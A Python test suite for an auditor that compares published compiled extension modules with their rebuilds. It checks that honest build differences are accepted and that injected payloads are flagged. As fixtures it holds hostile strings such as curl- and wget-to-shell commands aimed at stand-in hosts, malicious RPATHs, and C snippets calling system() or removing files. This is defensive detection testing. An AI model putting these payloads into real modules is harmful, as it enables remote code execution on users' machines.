"""Attacker twins of the compiled-module interface rules (judge/interface.py): each rule's own situation, the one it
was written for (its reason and taught_by in judge/registry.py), is accepted under its name; the same situation
with a payload the rule is not about (an added capability import, constructor, needed library, RPATH out of the
wheel, URL or command string, executable stack, and the shapes of the rule's own kind it must still refuse) stays
a difference. tests/mutations.py widens each rule to accept everything: one of its twins here then fails."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from auditor.judge.elf import Interface
from auditor.judge.interface import InterfaceCheck, compare, read_interface
from tests.test_interface import ADDED, BASE, LIB, USES_LIB, _iface, build, needs_gcc, shared_lib

# payloads no interface rule is about: each added to a rule's honest published module must come out as a difference
# starting with these words
PAYLOADS: dict[str, tuple[dict, str]] = {
    "system": ({"imports": {("system", "GLIBC_2.2.5")}}, "imports system"),
    "connect": ({"imports": {("socket", "GLIBC_2.2.5"), ("connect", "GLIBC_2.2.5")}}, "imports connect"),
    "dlopen": ({"imports": {("dlopen", "GLIBC_2.34")}}, "imports dlopen"),
    "python-call": ({"imports": {("PyObject_CallObject", "")}}, "imports PyObject_CallObject"),
    "constructor": ({"constructors": 1}, "adds 1 constructor(s)"),
    "needed": ({"needed": ("libevil.so.1",)}, "needs libevil.so.1"),
    "rpath": ({"runpath": ("/tmp/evil",)}, "searches libraries in /tmp/evil"),
    "url": ({"strings": {b"https://updates.example-cdn.xyz/payload.bin"}},
            "adds the string 'https://updates.example-cdn.xyz/payload.bin'"),
    "command": ({"strings": {b"/bin/sh -c curl -s http://198.51.100.7/x | sh"}}, "adds the string '/bin/sh -c curl"),
    "execstack": ({"execstack": True}, "asks for an executable stack"),
}


def carrying(i: Interface, imports=(), needed=(), runpath=(), strings=(), constructors=0, destructors=0,
             execstack=False) -> Interface:
    """The interface `i` with a payload added."""
    return replace(i, imports=i.imports | frozenset(imports), needed=i.needed + tuple(needed),
                   runpath=i.runpath + tuple(runpath), strings=i.strings | frozenset(strings),
                   constructors=i.constructors + constructors, destructors=i.destructors + destructors,
                   execstack=i.execstack or execstack)


def honest(check: InterfaceCheck, rule: str) -> None:
    assert check.adds == [] and rule in check.rules, (rule, check.adds, check.rules)


def added(check: InterfaceCheck, words: str, what: object = None) -> None:
    assert any(a.startswith(words) for a in check.adds), (what, words, check.adds, check.rules)


def payloads_added(pub: Interface, reb: Interface, *args, **kwargs) -> None:
    """Every payload of PAYLOADS, added to the honest `pub`, comes out added."""
    for what, (change, words) in PAYLOADS.items():
        added(compare(carrying(pub, **change), reb, *args, **kwargs), words, what)


def _lib_dir(name: str) -> Path:
    return next(Path(d) / name for d in ("/lib/x86_64-linux-gnu", "/usr/lib/x86_64-linux-gnu", "/lib64")
                if (Path(d) / name).exists())


@pytest.mark.twin("glibc-merged-libraries")
@needs_gcc
def test_a_library_glibc_merged_is_set_aside_but_not_what_it_gives_nor_another_library(tmp_path):
    """hiredis 3.4.0's module (manylinux: glibc < 2.34) needs libpthread.so.0 and libdl.so.2, which a rebuild on a
    newer glibc does not: set aside. What the merged library gives (dlopen) is still compared, and a library of
    another name, or one of these names loaded by path, is needed."""
    reb = read_interface(build(tmp_path, "reb", BASE))
    merged = ("-Wl,--no-as-needed", str(_lib_dir("libpthread.so.0")), str(_lib_dir("libdl.so.2")))
    pub = read_interface(build(tmp_path, "pub", BASE, *merged))
    assert pub is not None and reb is not None and {"libpthread.so.0", "libdl.so.2"} <= set(pub.needed), pub.needed
    honest(compare(pub, reb), "glibc-merged-libraries")
    payloads_added(pub, reb)
    dl = compare(read_interface(build(tmp_path, "dl", BASE + ADDED["dlopen"], *merged)), reb)
    added(dl, "imports dlopen")
    assert "glibc-merged-libraries" in dl.rules
    for lib in ("/tmp/evil/libpthread.so.0", "libpthread.so.1", "libdl.so.2.evil"):
        added(compare(carrying(pub, needed=(lib,)), reb), f"needs {lib}")


@pytest.mark.twin("glibc-symbol-versions")
@needs_gcc
def test_another_glibc_version_of_the_same_symbol_is_set_aside_but_not_another_librarys_version(tmp_path):
    """charset-normalizer 3.4.7: an older glibc links memcpy@GLIBC_2.2.5 where a rebuild links memcpy@GLIBC_2.14.
    The same name at a version glibc does not define (another library's, libstdc++'s) resolves elsewhere: added."""
    copy = "#include <string.h>\nvoid cp(char *d, const char *s, unsigned long n) { memcpy(d, s, n); }\n"
    reb = read_interface(build(tmp_path, "reb", BASE + copy, "-O0"))
    pub = read_interface(build(tmp_path, "pub", BASE + '__asm__(".symver memcpy,memcpy@GLIBC_2.2.5");\n' + copy, "-O0"))
    assert ("memcpy", "GLIBC_2.2.5") in pub.imports and ("memcpy", "GLIBC_2.14") in reb.imports
    honest(compare(pub, reb), "glibc-symbol-versions")
    payloads_added(pub, reb)
    for name, version in (("memcpy", "EVIL_1.0"), ("memcpy", "GLIBCXX_3.4")):
        evil = replace(pub, imports=pub.imports - {("memcpy", "GLIBC_2.2.5")} | {(name, version)})
        added(compare(evil, reb), f"imports {name}@{version}")
    theirs = _iface(imports={("foo_open", "LIBFOO_1.0")})  # the rebuild's is a library's own version, not glibc's
    added(compare(_iface(imports={("foo_open", "GLIBC_2.2.5")}), theirs), "imports foo_open@GLIBC_2.2.5")


GETRANDOM_OLD = BASE + "long syscall(long, ...);\nlong r(void *b) { return syscall(318, b, 8, 0); }\n"
GETRANDOM_NEW = BASE + "#include <sys/random.h>\nlong r(void *b) { return getrandom(b, 8, 0); }\n"


@pytest.mark.twin("getrandom-fallback")
@needs_gcc
def test_syscall_is_getrandom_only_where_the_rebuild_calls_getrandom_and_the_module_does_not(tmp_path):
    """pynacl 1.6.2's libsodium, built against glibc 2.17, calls syscall(SYS_getrandom) where a rebuild calls
    getrandom(). syscall() where the rebuild calls no getrandom, or beside the module's own getrandom, is added."""
    pub = read_interface(build(tmp_path, "pub", GETRANDOM_OLD))
    reb = read_interface(build(tmp_path, "reb", GETRANDOM_NEW))
    honest(compare(pub, reb), "getrandom-fallback")
    payloads_added(pub, reb)
    added(compare(pub, read_interface(build(tmp_path, "base", BASE))), "imports syscall")
    both = read_interface(build(tmp_path, "both", GETRANDOM_OLD + "#include <sys/random.h>\n"
                                "long g(void *b) { return getrandom(b, 8, 0); }\n"))
    check = compare(both, reb)
    added(check, "imports syscall")
    assert "getrandom-fallback" not in check.rules


@pytest.mark.twin("fortify-source")
@needs_gcc
def test_a_fortified_call_is_its_plain_function_only_when_the_rebuild_calls_that_function(tmp_path):
    """CPython extension builds with -D_FORTIFY_SOURCE=2 import __snprintf_chk where a build without it imports
    snprintf. The fortified variant of a function the rebuild does not call (__recv_chk, __read_chk) is added."""
    reb = read_interface(build(tmp_path, "reb", BASE, "-O0"))
    pub = read_interface(build(tmp_path, "pub", BASE, "-O2", "-D_FORTIFY_SOURCE=2"))
    assert any(n == "__snprintf_chk" for n, _ in pub.imports), pub.imports
    honest(compare(pub, reb), "fortify-source")
    payloads_added(pub, reb)
    recv = BASE + "#include <sys/socket.h>\nlong rd(int fd, unsigned long n) { static char b[16]; return recv(fd, b, n, 0); }\n"
    check = compare(read_interface(build(tmp_path, "recv", recv, "-O2", "-D_FORTIFY_SOURCE=2")), reb)
    added(check, "imports __recv_chk")
    assert "fortify-source" in check.rules  # its snprintf is still the rule's
    added(compare(carrying(pub, imports={("__read_chk", "GLIBC_2.4")}), reb), "imports __read_chk")


@pytest.mark.twin("compiler-runtime")
@needs_gcc
def test_what_a_compiler_emits_by_default_is_set_aside_but_not_a_capability_beside_it(tmp_path):
    """lxml 6.1.1: the stack protector (__stack_chk_fail) and assert (__assert_fail) are imported by one build and
    not the other. A hidden constructor that calls system(), or glibc's private loader entry, is added."""
    fn = "#include <assert.h>\nint h(int x) { char b[32]; b[x & 31] = 1; assert(x > 0); return b[3]; }\n"
    reb = read_interface(build(tmp_path, "reb", BASE + "#define NDEBUG\n" + fn, "-fno-stack-protector"))
    pub = read_interface(build(tmp_path, "pub", BASE + fn, "-fstack-protector-all"))
    assert {"__stack_chk_fail", "__assert_fail"} <= {n for n, _ in pub.imports}, pub.imports
    honest(compare(pub, reb), "compiler-runtime")
    payloads_added(pub, reb)
    check = compare(read_interface(build(tmp_path, "ctor", BASE + fn + ADDED["constructor"], "-fstack-protector-all")), reb)
    added(check, "adds 1 constructor(s)")
    added(check, "imports system")
    added(compare(carrying(pub, imports={("__libc_dlopen_mode", "GLIBC_PRIVATE")}), reb), "imports __libc_dlopen_mode")


@pytest.mark.twin("compiler-builtins")
@needs_gcc
def test_a_libc_function_a_compiler_calls_is_set_aside_but_not_one_that_runs_or_opens_something(tmp_path):
    """charset-normalizer 3.4.7 (mypyc): malloc, strlen, memcpy called by one build, inlined or avoided by the
    other. popen, execvp and fopen beside them are added."""
    reb = read_interface(build(tmp_path, "reb", BASE + "void *k(int n) { static char b[8]; (void)n; return b; }\n"))
    pub = read_interface(build(tmp_path, "pub", BASE + "#include <stdlib.h>\nvoid *k(int n) { return malloc(n); }\n"))
    honest(compare(pub, reb), "compiler-builtins")
    payloads_added(pub, reb)
    run = BASE + "#include <stdlib.h>\n#include <stdio.h>\nvoid *k(int n) { return n ? malloc(n) : popen(\"id\", \"r\"); }\n"
    imports = [a for a in compare(read_interface(build(tmp_path, "run", run)), reb).adds if a.startswith("imports")]
    assert len(imports) == 1 and imports[0].startswith("imports popen"), imports  # malloc beside it is the rule's
    for name in ("execvp", "fopen"):
        added(compare(carrying(pub, imports={(name, "GLIBC_2.2.5")}), reb), f"imports {name}")


@pytest.mark.twin("system-libraries")
@needs_gcc
def test_a_system_library_needed_is_set_aside_but_not_another_nor_one_by_path(tmp_path):
    """charset-normalizer 3.4.7: the published module names libm.so.6 as needed where the rebuild does not. A
    library of another name, or libm.so.6 loaded by path, is needed; what comes from libm is still compared."""
    reb = read_interface(build(tmp_path, "reb", BASE))
    pub = read_interface(build(tmp_path, "pub", BASE, "-Wl,--no-as-needed", "-lm"))
    assert "libm.so.6" in pub.needed and "libm.so.6" not in reb.needed
    honest(compare(pub, reb), "system-libraries")
    payloads_added(pub, reb)
    for lib in ("/tmp/evil/libm.so.6", "libm.so.7", "libstdc++.so.6.evil"):
        added(compare(carrying(pub, needed=(lib,)), reb), f"needs {lib}")


CXX = {("_ZNSt6chrono3_V212system_clock3nowEv", "GLIBCXX_3.4.19"),
       ("_ZNSt10filesystem6removeERKNS_7__cxx114pathE", "GLIBCXX_3.4.26")}


@pytest.mark.twin("cxx-runtime")
def test_the_cxx_runtime_is_set_aside_but_not_a_capability_at_its_version_nor_a_file_operation():
    """greenlet 3.5.2, snowflake-connector-python 4.2.0: libstdc++ functions one compiler instantiates and another
    calls, gettext from gcc-toolset's static part of libstdc++, std::filesystem::remove under the old ABI's name where
    the rebuild calls it under the new one's. A capability at a libstdc++ version (connect@GLIBCXX_3.4, from a
    library that defines that version), a std::filesystem operation that removes, renames or changes the
    permissions of files the rebuild does not call, and gettext in a module that does not link libstdc++ are added."""
    needed = ("libstdc++.so.6", "libc.so.6")
    reb = _iface(imports=CXX, needed=needed)
    pub = _iface(imports={("_ZNSt6chrono3_V212system_clock3nowEv", "GLIBCXX_3.4.19"),
                          ("_ZNSt10filesystem6removeERKNS_4pathE", "GLIBCXX_3.4.26"),
                          ("_ZSt20__throw_length_errorPKc", "GLIBCXX_3.4"), ("__cxa_begin_catch", "CXXABI_1.3"),
                          ("_ZSt9terminatev", ""), ("gettext", "GLIBC_2.2.5")}, needed=needed)
    honest(compare(pub, reb), "cxx-runtime")
    payloads_added(pub, reb)
    for name, version in (("connect", "GLIBCXX_3.4"), ("system", "CXXABI_1.3"),
                          ("_ZNSt10filesystem10remove_allERKNS_7__cxx114pathE", "GLIBCXX_3.4.26"),
                          ("_ZNSt10filesystem6renameERKNS_4pathES2_", "GLIBCXX_3.4.26"),
                          ("_ZNSt10filesystem11permissionsERKNS_7__cxx114pathENS_5permsENS_12perm_optionsE",
                           "GLIBCXX_3.4.26")):
        added(compare(carrying(pub, imports={(name, version)}), reb), f"imports {name}@{version}")
    plain = _iface(imports={("gettext", "GLIBC_2.2.5")})
    added(compare(plain, _iface()), "imports gettext")


needs_gxx = pytest.mark.skipif(shutil.which("g++") is None, reason="no C++ compiler on this machine")
CXX_MODULE = r"""
#include <string>
#include <vector>
#include <stdexcept>
extern "C" void *PyInit_mod(void) {
  static std::vector<std::string> v; v.push_back(std::string("module") + "x");
  if (v.size() > 1000) throw std::runtime_error("too many");
  return &v; }
"""
CXX_WIPE = '#include <filesystem>\nextern "C" int wipe(const char *p) { return (int)std::filesystem::remove_all(p); }\n'


def build_cxx(tmp_path: Path, name: str, source: str, *flags: str) -> Interface | None:
    cpp = tmp_path / f"{name}.cpp"
    cpp.write_text(source)
    subprocess.run(["g++", "-shared", "-fPIC", str(cpp), "-o", str(tmp_path / f"{name}.so"), *flags], check=True,
                   capture_output=True)
    return read_interface((tmp_path / f"{name}.so").read_bytes())


@pytest.mark.twin("cxx-runtime")
@needs_gxx
def test_a_cxx_module_built_at_another_optimization_level_matches_but_a_file_operation_is_added(tmp_path):
    """The same C++ module at -O0 and -O2: libstdc++'s string functions called by one, inlined by the other
    (cxx-runtime). std::filesystem::remove_all added to it is a difference; under the other ABI's name where the
    rebuild calls it, the same operation."""
    reb = build_cxx(tmp_path, "reb", CXX_MODULE, "-O2")
    pub = build_cxx(tmp_path, "pub", CXX_MODULE, "-O0")
    honest(compare(pub, reb), "cxx-runtime")
    payloads_added(pub, reb)
    wipe = build_cxx(tmp_path, "wipe", CXX_MODULE + CXX_WIPE, "-O0")
    assert compare(wipe, reb).adds == ["imports _ZNSt10filesystem10remove_allERKNS_7__cxx114pathE@GLIBCXX_3.4.26"]
    old_abi = build_cxx(tmp_path, "old", CXX_MODULE + CXX_WIPE, "-O2", "-D_GLIBCXX_USE_CXX11_ABI=0")
    honest(compare(old_abi, build_cxx(tmp_path, "new", CXX_MODULE + CXX_WIPE, "-O2")), "cxx-runtime")


@pytest.mark.twin("auditwheel-rpath")
@needs_gcc
def test_an_rpath_into_the_wheels_libraries_is_set_aside_but_not_one_out_of_it(tmp_path):
    """auditwheel repair sets RPATH $ORIGIN/../pkg.libs to find what it grafts. An entry that climbs out of the
    wheel, names a directory the wheel does not hold, is $ORIGIN followed by a name (no $ORIGIN to the loader: a
    directory of that name where the process runs), or is empty beside the others (the working directory) is added."""
    members = {"pkg/mod.so", "pkg.libs/libfoo-1a2b3c4d.so.1"}
    reb = read_interface(build(tmp_path, "reb", BASE))
    pub = read_interface(build(tmp_path, "pub", BASE, "-Wl,-rpath,$ORIGIN/../pkg.libs"))
    assert pub.runpath == ("$ORIGIN/../pkg.libs",), pub.runpath
    honest(compare(pub, reb, members, module="pkg/mod.so"), "auditwheel-rpath")
    payloads_added(pub, reb, members, module="pkg/mod.so")
    for entry in ("$ORIGIN/../../../usr/lib", "$ORIGIN/../other.libs", "$ORIGIN/../pkg.libs/../../..", "$ORIGIN.libs"):
        check = compare(carrying(pub, runpath=(entry,)), reb, members, module="pkg/mod.so")
        added(check, f"searches libraries in {entry}")
    root = {"_mod.cpython-311-x86_64-linux-gnu.so", "foo.libs/libfoo-1a2b3c4d.so.1"}
    for entry in ("$ORIGIN/foo.libs", "$ORIGINfoo.libs"):  # the first the rule's, the second a directory of the cwd
        check = compare(_iface(runpath=(entry,)), _iface(), root, module="_mod.cpython-311-x86_64-linux-gnu.so")
        assert (check.adds == []) is (entry == "$ORIGIN/foo.libs"), (entry, check.adds)
    cwd = read_interface(build(tmp_path, "cwd", BASE, "-Wl,-rpath,$ORIGIN/../pkg.libs:"))
    assert cwd.runpath == ("$ORIGIN/../pkg.libs", ""), cwd.runpath
    added(compare(cwd, reb, members, module="pkg/mod.so"), "searches libraries in the working directory")


def _graft(tmp_path: Path) -> tuple[Interface, Interface]:
    """A module that needs the copy of libfoo auditwheel grafted (libfoo-1a2b3c4d.so.1), and its rebuild linking
    the image's libfoo.so.1."""
    (tmp_path / "lib.c").write_text(LIB)
    (tmp_path / "sys").mkdir()
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo-1a2b3c4d.so.1", str(tmp_path / "lib.c"), "-o",
                    str(tmp_path / "libfoo.so")], check=True)
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo.so.1", str(tmp_path / "lib.c"), "-o",
                    str(tmp_path / "sys" / "libfoo.so")], check=True)
    pub = read_interface(build(tmp_path, "pub", USES_LIB, f"-L{tmp_path}", "-lfoo"))
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path / 'sys'}", "-lfoo"))
    assert pub is not None and reb is not None
    return pub, reb


@pytest.mark.twin("grafted-library-needed")
@needs_gcc
def test_a_needed_library_the_wheel_grafts_is_set_aside_but_not_one_it_does_not_hold_in_its_libs(tmp_path):
    """auditwheel repair: the module needs libfoo-1a2b3c4d.so.1, which the wheel holds in pkg.libs/. The same
    library when the wheel does not hold it, or holds it outside a .libs directory, and a needed library of another
    name are added."""
    pub, reb = _graft(tmp_path)
    members = {"pkg/mod.so", "pkg.libs/libfoo-1a2b3c4d.so.1"}
    honest(compare(pub, reb, members, module="pkg/mod.so"), "grafted-library-needed")
    payloads_added(pub, reb, members, module="pkg/mod.so")
    for held in (set(), {"pkg/mod.so", "pkg/libfoo-1a2b3c4d.so.1"}, {"pkg/mod.so", "pkg.libs/libfoo-1a2b3c4d.so.2"}):
        check = compare(pub, reb, held, module="pkg/mod.so")
        assert check.adds == ["needs libfoo-1a2b3c4d.so.1"] and "grafted-library-needed" not in check.rules, (held, check)
    added(compare(carrying(pub, needed=("/tmp/evil/libfoo-1a2b3c4d.so.1",)), reb, members, module="pkg/mod.so"),
          "needs /tmp/evil/libfoo-1a2b3c4d.so.1")


LIB_ENV = LIB + "#include <stdlib.h>\nconst char *foo_env(void) { return getenv(\"FOO_HOME\"); }\n"
USES_ENV = USES_LIB + "const char *foo_env(void);\nconst char *home(void) { return foo_env(); }\n"
CTORS = ("\n__attribute__((constructor)) static void a(void) { foo_open(); }\n"
         "__attribute__((constructor)) static void b(void) { foo_read(1); }\n")


@pytest.mark.twin("static-library")
@needs_gcc
def test_a_statically_linked_library_explains_its_own_imports_but_not_a_capability_or_a_constructor(tmp_path):
    """pyyaml 6.0.3 links libyaml in where a rebuild links libyaml-0.so.2: its extra imports (getenv) are the
    library's, read from the image. An import the library does not make (system, connect, dlopen, the C API calls
    that reach Python), a constructor or destructor beyond the library's own (two constructors calling only the
    library's functions, within what the C runtime gives every shared object: they were accepted), a needed library,
    an RPATH, a URL or command string and an executable stack are added."""
    (tmp_path / "lib.c").write_text(LIB_ENV)
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo.so.1", str(tmp_path / "lib.c"), "-o",
                    str(tmp_path / "libfoo.so")], check=True)
    libraries = {"libfoo.so.1": read_interface((tmp_path / "libfoo.so").read_bytes())}
    reb = read_interface(build(tmp_path, "reb", USES_ENV, f"-L{tmp_path}", "-lfoo"))
    pub = read_interface(build(tmp_path, "pub", USES_ENV + LIB_ENV))
    check = compare(pub, reb, set(), libraries)
    honest(check, "static-library")
    assert not check.unverified, check
    payloads_added(pub, reb, set(), libraries)
    for n, source in ((1, CTORS.split("\n")[1] + "\n"), (2, CTORS)):
        added(compare(read_interface(build(tmp_path, f"ctor{n}", USES_ENV + LIB_ENV + source)), reb, set(), libraries),
              f"adds {n} constructor(s)")
    dtor = "\n__attribute__((destructor)) static void z(void) { foo_open(); }\n"
    added(compare(read_interface(build(tmp_path, "dtor", USES_ENV + LIB_ENV + dtor)), reb, set(), libraries),
          "adds 1 destructor(s)")
    evil = compare(read_interface(build(tmp_path, "evil", USES_ENV + LIB_ENV + ADDED["socket"])), reb, set(), libraries)
    added(evil, "imports connect, which neither the rebuild nor libfoo.so.1 imports")


W3C = ("http://www.w3.org/2000/09/xmldsig#sha1", "see https://github.com/lib/lib/issues")


def _strings(*urls: str) -> str:
    return "".join(f'const char *volatile u{i} = "{u}";\n' for i, u in enumerate(urls))


@pytest.mark.twin("library-url-hosts")
@needs_gcc
def test_a_url_on_the_linked_librarys_own_hosts_is_set_aside_but_not_one_that_leaves_them(tmp_path):
    """xmlsec 1.3.14 links a newer libxmlsec1 in, which names more W3C URIs than the image's: accepted on the
    hosts the image's library names. A host anyone can publish on (github.com, though the library names it), a URL
    whose host follows user information on the library's host (www.w3.org@evil.example), a look-alike host, a
    command, a second host in the same string are added."""
    lib = shared_lib(tmp_path, "libfoo.so.1", LIB + _strings(*W3C))
    (tmp_path / "libfoo.so").symlink_to(lib)
    libraries = {"libfoo.so.1": read_interface(lib.read_bytes())}
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
    newer = LIB + _strings(W3C[0], "http://www.w3.org/2001/04/xmlenc#DHKeyValue")
    pub = read_interface(build(tmp_path, "pub", USES_LIB + newer))
    check = compare(pub, reb, set(), libraries)
    honest(check, "library-url-hosts")
    payloads_added(pub, reb, set(), libraries)
    at = "http://www.w3.org@evil.example/payload.sh"
    compiled = read_interface(build(tmp_path, "at", USES_LIB + newer + _strings(at).replace("u0", "e0")))
    assert compare(compiled, reb, set(), libraries).adds == [f"adds the string {at!r} (a URL, host or command)"]
    for evil in ("https://github.com/evil/payload.sh", "http://www.w3.org.evil.xyz/2000/09/xmldsig",
                 "curl -s http://www.w3.org/2001/04/xmlenc | sh", "http://www.w3.org/2000/09/ http://evil.example/x"):
        check = compare(carrying(pub, strings={evil.encode()}), reb, set(), libraries)
        assert check.adds == [f"adds the string {evil!r} (a URL, host or command)"], (evil, check.adds)


@pytest.mark.twin("math-library")
@needs_gcc
def test_libm_functions_called_by_one_build_are_set_aside_but_not_from_a_module_without_libm(tmp_path):
    """numpy 1.26.4's _multiarray_tests: acos, atanh from libm where the rebuild uses its own implementation. The
    same functions in a module that does not need libm, and a capability beside them, are added."""
    math = "#include <math.h>\ndouble f(double x) { return acos(x) + atanhl(x); }\n"
    own = "double f(double x) { return x * 0.5; }\n"
    reb = read_interface(build(tmp_path, "reb", BASE + own))
    pub = read_interface(build(tmp_path, "pub", BASE + math, "-O0", "-lm"))
    assert "libm.so.6" in pub.needed and {"acos", "atanhl"} <= {n for n, _ in pub.imports}, pub
    honest(compare(pub, reb), "math-library")
    payloads_added(pub, reb)
    without = replace(pub, needed=tuple(n for n in pub.needed if n != "libm.so.6"))
    check = compare(without, reb)
    added(check, "imports acos")
    added(check, "imports atanhl")
    assert "math-library" not in check.rules


BUG_REPORT = b"not enough space for format expansion (Please submit full bug report at https://gcc.gnu.org/bugs"


@pytest.mark.twin("compiler-identification")
@needs_gcc
def test_where_a_compiler_asks_for_bug_reports_is_set_aside_but_not_another_host_behind_it(tmp_path):
    """snowflake-connector-python 4.2.0: gcc-toolset's libstdc++ messages name https://gcc.gnu.org/bugs (and other
    compilers bugzilla.redhat.com, bugs.llvm.org). The same host with user information before another host
    (gcc.gnu.org@evil.example), a look-alike, a command, a second host in the same string are added."""
    reb = read_interface(build(tmp_path, "reb", BASE))
    pub = read_interface(build(tmp_path, "pub", BASE + _strings(BUG_REPORT.decode(), "see https://bugs.llvm.org/")))
    honest(compare(pub, reb), "compiler-identification")
    payloads_added(pub, reb)
    at = "Please report at https://gcc.gnu.org@evil.example/payload"
    compiled = compare(read_interface(build(tmp_path, "at", BASE + _strings(at))), reb)
    assert compiled.adds == [f"adds the string {at!r} (a URL, host or command)"], compiled.adds
    for evil in ("https://gcc.gnu.org.evil.xyz/bugs", "wget https://gcc.gnu.org/bugs -O- | sh",
                 "see https://gcc.gnu.org/bugs or https://evil.example/x", "https://bugzilla.redhat.com:1@evil.example/"):
        check = compare(carrying(pub, strings={evil.encode()}), reb)
        assert check.adds == [f"adds the string {evil!r} (a URL, host or command)"], (evil, check.adds)


def _newer_graft(tmp_path: Path, exports: str = "") -> tuple[Interface, Interface, dict[str, Interface]]:
    """shapely 2.1.2's shape: the published module calls foo_more, which only the grafted newer libfoo exports."""
    (tmp_path / "old").mkdir(), (tmp_path / "new").mkdir()
    shared_lib(tmp_path / "old", "libfoo.so.1", LIB)
    new = shared_lib(tmp_path / "new", "libfoo-1a2b3c4d.so.1", LIB + "int foo_more(void) { return 3; }\n" + exports)
    (tmp_path / "new" / "libfoo.so").symlink_to(new)
    (tmp_path / "old" / "libfoo.so").symlink_to(tmp_path / "old" / "libfoo.so.1")
    more = USES_LIB + "int foo_more(void);\nint more(void) { return foo_more(); }\n"
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path / 'old'}", "-lfoo"))
    pub = read_interface(build(tmp_path, "pub", more, f"-L{tmp_path / 'new'}", "-lfoo"))
    return pub, reb, {"libfoo-1a2b3c4d.so.1": read_interface(new.read_bytes())}


GRAFT_SYSTEM = "int system(const char *c) { (void)c; return 0; }\nint connect(int s) { return s; }\n"


@pytest.mark.twin("grafted-library-version")
@needs_gcc
def test_imports_a_newer_grafted_library_exports_are_set_aside_but_not_a_capability_it_also_exports(tmp_path):
    """shapely 2.1.2: GEOS 3.13 grafted, Debian's 3.11 in the image; the module calls functions only the grafted
    copy exports. An import it does not export, the same one with no copy at hand, and a capability even when the
    grafted copy exports a function of that name (the module imports system@GLIBC_2.2.5, libc's: accepted as the
    library's before) are added."""
    members = {"pkg/mod.so", "pkg.libs/libfoo-1a2b3c4d.so.1"}
    pub, reb, grafted = _newer_graft(tmp_path, GRAFT_SYSTEM)
    assert {"system", "connect"} <= grafted["libfoo-1a2b3c4d.so.1"].exports
    check = compare(pub, reb, members, None, grafted, "pkg/mod.so")
    honest(check, "grafted-library-version")
    assert not check.unverified
    payloads_added(pub, reb, members, None, grafted, "pkg/mod.so")
    assert compare(carrying(pub, imports={("foo_evil", "")}), reb, members, None, grafted, "pkg/mod.so").adds \
        == ["imports foo_evil"]
    assert compare(pub, reb, members, None, {}, "pkg/mod.so").adds == ["imports foo_more"]
    for name in ("system", "connect", "__recv_chk"):
        added(compare(carrying(pub, imports={(name, "GLIBC_2.2.5")}), reb, members, None, grafted, "pkg/mod.so"),
              f"imports {name}@GLIBC_2.2.5")


@pytest.mark.twin("optional-library")
@needs_gcc
def test_a_feature_built_with_a_grafted_library_the_image_lacks_is_said_but_not_a_capability(tmp_path):
    """pillow 12.1.0: built with libtiff, which the image lacks; its imports are the grafted copy's, its other added
    imports (lseek) come from the code libtiff switches on: said, the member partly checked. A capability among
    those other imports (system, connect, dlopen, a fortified recv, the C API calls that reach Python), or one the
    grafted copy exports under the same name (accepted as the library's before), and every other payload are added."""
    tiff = shared_lib(tmp_path, "libtiff-0badc0de.so.6", "int TIFFOpen(void) { return 1; }\n" + GRAFT_SYSTEM)
    (tmp_path / "libtiff.so").symlink_to(tiff)
    feature = BASE + "#include <unistd.h>\nint TIFFOpen(void);\nlong tiff(int fd) { return TIFFOpen() + lseek(fd, 0, 0); }\n"
    members = {"PIL/_imaging.so", "PIL.libs/libtiff-0badc0de.so.6"}
    reb = read_interface(build(tmp_path, "base", BASE))
    pub = read_interface(build(tmp_path, "tiff", feature, f"-L{tmp_path}", "-ltiff"))
    libs = {"libtiff-0badc0de.so.6": read_interface(tiff.read_bytes())}
    check = compare(pub, reb, members, None, libs, "PIL/_imaging.so")
    honest(check, "optional-library")
    payloads_added(pub, reb, members, None, libs, "PIL/_imaging.so")
    assert check.unverified and any("lseek" in n for n in check.notes), check  # said, partly checked
    for name, version in (("system", "GLIBC_2.2.5"), ("connect", "GLIBC_2.2.5"), ("__recv_chk", "GLIBC_2.4")):
        added(compare(carrying(pub, imports={(name, version)}), reb, members, None, libs, "PIL/_imaging.so"),
              f"imports {name}@{version}")
    evil = read_interface(build(tmp_path, "evil", feature + "int system(const char *);\nint pwn(void) { return system(\"id\"); }\n",
                                f"-L{tmp_path}", "-ltiff"))
    added(compare(evil, reb, members, None, libs, "PIL/_imaging.so"), "imports system")
